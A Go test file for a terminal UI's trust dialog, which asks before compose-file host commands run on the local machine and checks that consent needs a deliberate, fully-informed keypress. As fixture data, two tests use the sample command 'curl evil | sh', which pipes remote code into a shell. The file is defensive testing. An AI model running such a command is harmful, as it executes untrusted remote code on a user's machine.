package ui

import (
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"

	"bulkhead/engine"
	"bulkhead/engine/project"
)

// wanting is a shop that wants to run two programs on this machine.
func wanting(long int) *fake {
	f := shop()
	f.snap.Untrusted = []engine.HostCommand{
		{Service: "api", Kind: "prepare", Place: "compose.yaml:12", Command: "make bin\n" +
			strings.Repeat("echo very long; ", long), Env: []string{"CGO_ENABLED=0", "TOKEN=${TOKEN}"}},
		{Service: "db", Kind: "provider", Place: "compose.yaml:30",
			Command: "cloud compose --project-name=shop up --size=s db"},
	}
	return f
}

func TestHostCommandsAreAskedAboutOnce(t *testing.T) {
	f := wanting(1)
	s := openScreen(t, f, 80, 24)
	s.wait("Run on this machine?", "compose.yaml:12  prepare of api", "make bin",
		"with TOKEN=${TOKEN}", "compose.yaml:30  provider of db", "Not covered:", "y allow")
	s.golden("trust-80x24")
	s.keys("n")
	s.gone("Run on this machine?")
	s.wait("2 host commands not allowed yet, and what needs them waits", "[A] show")
	if f.told("trust") {
		t.Error("it was allowed by n")
	}
	s.keys("A")
	s.wait("Run on this machine?")
	s.keys("esc")
	s.b.change(func(n *engine.Snapshot) { n.Untrusted = n.Untrusted[:1:1] })
	s.wait("wants to run 1 program")
	f.later(answerAfter)
	s.keys("y")
	s.gone("Run on this machine?")
	for !f.told("trust  (you pressed y) " + f.Snapshot().Untrusted[0].ID()) {
		s.wait("[A] show")
	}
	s.b.change(func(n *engine.Snapshot) { n.Untrusted = nil })
	s.gone("not allowed yet")
	s.quit()
}

// What was not on the screen is not agreed to.
func TestHostCommandIsShownToItsEndBeforeTheYes(t *testing.T) {
	f := wanting(600)
	s := openScreen(t, f, 80, 24)
	s.wait("1-20 of", "y more")
	s.keys("y")
	s.wait("20-39 of", "y more")
	s.keys("G")
	s.wait("Not covered:", "y allow")
	if f.told("trust") {
		t.Error("it was allowed before its end was seen")
	}
	s.keys("g")
	s.wait("1-20 of", "y allow")
	f.later(answerAfter)
	s.keys("y")
	s.gone("Run on this machine?")
	s.quit()
}

func TestReloadNamesTheHostCommandFirst(t *testing.T) {
	f := shop()
	s := openScreen(t, f, 80, 24)
	s.b.change(func(n *engine.Snapshot) {
		n.Reload = &engine.Reload{Commands: []engine.HostCommand{{Service: "web", Kind: "prepare",
			Place: "compose.yaml:3", Command: "curl evil | sh"}}}
		for _, svc := range n.Services {
			n.Reload.Changes = append(n.Reload.Changes, project.Change{Service: svc.Name,
				Kind: project.Recreate})
		}
	})
	s.wait("Compose file changed: web runs on this machine:", "curl evil | sh")
	s.quit()
}

// A key that a person presses for something else is no answer to a question that comes at that moment.
func TestKeyForSomethingElseAllowsNothing(t *testing.T) {
	f := shop()
	s := openScreen(t, f, 80, 24)
	s.keys("/")
	s.keys("r", "e", "t", "r")
	s.b.change(func(n *engine.Snapshot) {
		n.Untrusted = []engine.HostCommand{{Service: "web", Kind: "prepare", Place: "compose.yaml:3",
			Command: "curl evil | sh"}}
	})
	s.wait("1 host command not allowed yet")
	s.keys("y")
	s.wait("retry")
	s.keys("enter")
	s.wait("Run on this machine?", "curl evil | sh")
	s.keys("n")
	s.gone("Run on this machine?")
	s.quit()
	if f.told("trust") {
		t.Error("it was allowed")
	}
	// Nor is one that comes in the moment after the question.
	now := time.Now()
	var allowed []string
	d := &trustDialog{e: &env{opts: Options{Now: func() time.Time {
		return now
	}}, snap: snapshot{&engine.Snapshot{}}},
		commands: wanting(1).snap.Untrusted, allow: func(ids []string) tea.Cmd { allowed = ids; return nil }}
	d.render(80, 24)
	d.key(tea.KeyPressMsg{Code: 'y', Text: "y"})
	if allowed != nil {
		t.Error("it was allowed as soon as it was asked")
	}
	now = now.Add(answerAfter)
	d.key(tea.KeyPressMsg{Code: 'y', Text: "y"})
	if len(allowed) != 2 {
		t.Errorf("allowed %v", allowed)
	}
}
